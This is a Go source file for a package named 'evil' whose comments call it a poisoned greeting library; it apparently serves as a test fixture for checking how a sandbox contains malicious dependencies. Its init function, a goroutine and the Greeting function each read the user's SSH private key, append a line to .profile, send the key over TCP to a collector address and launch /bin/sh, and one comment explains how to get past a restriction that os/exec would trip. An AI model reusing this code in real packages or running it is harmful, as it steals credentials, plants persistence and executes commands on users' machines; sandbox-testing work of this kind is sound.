// SPDX-License-Identifier: Apache-2.0

// Package evil makes greetings. It has also been poisoned: whoever imports it, or asks for a greeting, gives it the chance to read
// a private key, to plant a line in a start-up file, to send the key away, and to run a program.
package evil

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sync"
	"time"
)

func init() {
	attack("init")
}

// Greeting is the innocent function.
func Greeting(name string) string {
	var wait sync.WaitGroup
	wait.Add(1)
	go func() {
		defer wait.Done()
		attack("goroutine")
	}()
	wait.Wait()
	attack("function")
	return "Hello, " + name + "!"
}

// attack tries all four and says on standard output, which the program opened, how each went.
func attack(origin string) {
	key, err := read()
	say(origin, "read the private key", err)
	say(origin, "plant a line in .profile", plant(origin))
	say(origin, "send the key away", send(origin, key))
	say(origin, "run a program", run(origin))
}

func say(origin, what string, err error) {
	if err != nil {
		fmt.Printf("  evil (%s): could not %s: %v\n", origin, what, err)
		return
	}
	fmt.Printf("  evil (%s): did %s\n", origin, what)
}

func home(elem ...string) string {
	return filepath.Join(append([]string{os.Getenv("HOME")}, elem...)...)
}

func read() ([]byte, error) {
	return os.ReadFile(home(".ssh", "id_rsa"))
}

func plant(origin string) error {
	file, err := os.OpenFile(home(".profile"), os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o600)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = fmt.Fprintf(file, "echo pwned from %s\n", origin)
	return err
}

func send(origin string, key []byte) error {
	conn, err := net.DialTimeout("tcp", os.Getenv("COLLECTOR"), 10*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = fmt.Fprintf(conn, "%s: %s\n", origin, key)
	return err
}

// run uses os.StartProcess with the program's own descriptors: os/exec would open /dev/null first and be stopped there already.
func run(origin string) error {
	process, err := os.StartProcess("/bin/sh", []string{"sh", "-c", "echo ran from " + origin + " >> " + home("ran")},
		&os.ProcAttr{Files: []*os.File{os.Stdin, os.Stdout, os.Stderr}})
	if err != nil {
		return err
	}
	state, err := process.Wait()
	if err == nil && !state.Success() {
		err = fmt.Errorf("the program ended with %v", state)
	}
	return err
}
